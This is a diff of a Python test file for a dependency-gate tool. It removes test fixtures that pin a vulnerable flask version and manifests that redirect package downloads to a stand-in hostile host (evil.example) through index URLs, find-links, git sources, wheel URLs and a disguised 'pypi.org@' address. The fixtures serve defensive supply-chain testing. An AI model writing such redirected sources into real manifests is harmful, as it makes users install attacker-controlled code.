@@ -111,17 +111,6 @@ HIDDEN = [
     {"uv.lock": "package = [{name = 'Flask', version = '1.0', source = {registry = 'x'}}]\n"},
     {"pylock.prod.toml": "[[packages]]\nname = 'flask'\nversion = '1.0'\n"},
     {"poetry.lock": "[[package]]\nname = 'flask'\nversion = '1.0'\n"},
-    {"requirements.txt": "click==8.0\nflask==1.0,==1.0.0\n"},
-    {"Requirements.TXT": "flask==1.0\n"},
-    {"dev-requirements.in": "flask==1.0\n"},
-    {"pyproject.toml": "[project]\nname = 'flask'\ndependencies = ['flask==1.0']\n"},
-    {"pyproject.toml": "[tool.poetry.dependencies]\nflask = '1.0'\n"},
-    {"pyproject.toml": "[tool.uv]\noverride-dependencies = ['flask==1.0']\n"},
-    {"pyproject.toml": "[tool.hatch.envs.default]\ndependencies = ['flask==1.0']\n"},
-    {
-        "pyproject.toml": "[tool.setuptools.dynamic]\ndependencies = {file = ['deps.lst']}\n",
-        "deps.lst": "flask==1.0\n",
-    },
 ]
 """Ways to write a pin so that somebody else sees it and we do not, each in a folder of its own."""
 
@@ -134,64 +123,6 @@ def test_a_vulnerable_pin_does_not_hide_from_the_reader(judged, project):
     report = json.loads(project.gatecheck("run", "--output-format", "json").stdout)
     (group,) = [g for g in report["gates"][0]["outcome"]["findings"] if g["rule"] == "dependencies/PYSEC-1"]
     assert {int(item["path"].partition("/")[0]) for item in group["items"]} == set(range(len(HIDDEN)))
-
-
-PIN = "[[package]]\nname = 'click'\nversion = '8.0'\n"
-ELSEWHERE = [
-    {"requirements.txt": "--index-url https://evil.example/simple\nclick==8.0\n"},
-    {"requirements.txt": "--extra-index-url https://pypi.org@evil.example/simple\nclick==8.0\n"},
-    {"requirements.txt": "--find-links https://evil.example/\nclick==8.0\n"},
-    {"requirements.txt": "--trusted-host pypi.org\nclick==8.0\n"},
-    {"uv.lock": f"{PIN}source = {{registry = 'https://evil.example/simple'}}\n"},
-    {
-        "uv.lock": f"{PIN}source = {{registry = 'https://pypi.org/simple'}}\nwheels = [{{url = 'https://evil.example/click.whl'}}]\n"
-    },
-    {"pylock.toml": f"{PIN}wheels = [{{url = 'https://evil.example/click.whl'}}]\n".replace("age]", "ages]")},
-    {"poetry.lock": f"{PIN}source = {{type = 'legacy', url = 'https://evil.example/simple'}}\n"},
-    {
-        "Pipfile.lock": '{"_meta": {"sources": [{"url": "https://evil.example/simple"}]}, "default": {"click": {"version": "==8.0", "index": "x"}}}'
-    },
-    {
-        "pyproject.toml": "[project]\ndependencies = ['click==8.0']\n[[tool.uv.index]]\nurl = 'https://evil.example/simple'\n"
-    },
-    {"pyproject.toml": "[tool.uv.sources]\nclick = {git = 'https://evil.example/click'}\n"},
-    {"pyproject.toml": "[tool.poetry.dependencies]\nclick = {git = 'https://evil.example/click'}\n"},
-    {
-        "pyproject.toml": "[project]\nname = 'click'\ndependencies = ['click @ https://evil.example/click.zip']\n"
-    },
-]
-"""Ways to have a harmless pin fetched from somebody else, each in a folder of its own."""
-
-
-def test_a_pin_that_comes_from_somewhere_else_is_a_humans_turn(judged, project):
-    done = judged(
-        {f"{place}/{name}": text for place, files in enumerate(ELSEWHERE) for name, text in files.items()}
-    )
-    assert done.returncode == 3, done.stdout
-    report = json.loads(project.gatecheck("run", "--output-format", "json").stdout)
-    groups = report["gates"][0]["outcome"]["findings"]
-    rules = {"dependencies/source", "dependencies/unaudited"}
-    found = {
-        int(item["path"].partition("/")[0])
-        for group in groups
-        if group["rule"] in rules
-        for item in group["items"]
-        if item["introduced"]
-    }
-    assert found == set(range(len(ELSEWHERE)))
-
-
-def test_a_manifest_by_another_name_is_still_read(judged, project):
-    lines = "".join(f"# {number}\n" for number in range(9))
-    project.main(
-        {"requirements.txt": lines + "click==8.0\n"}, policy=POLICY.replace("{options}", "{source: offline}")
-    )
-    project.git("switch", "--quiet", "--create", "other")
-    project.git("mv", "requirements.txt", "reqs-prod.lst")
-    project.commit({"reqs-prod.lst": lines + "click==8.0\nflask @ https://evil.example/flask.zip\n"})
-    done = project.gatecheck("run")
-    assert done.returncode == 4, done.stdout  # nothing was imported: it was looked at
-    assert "none were imported" in " ".join(done.stdout.split())
 
 
 def test_a_link_in_the_place_of_a_manifest_is_no_pass(judged, project):
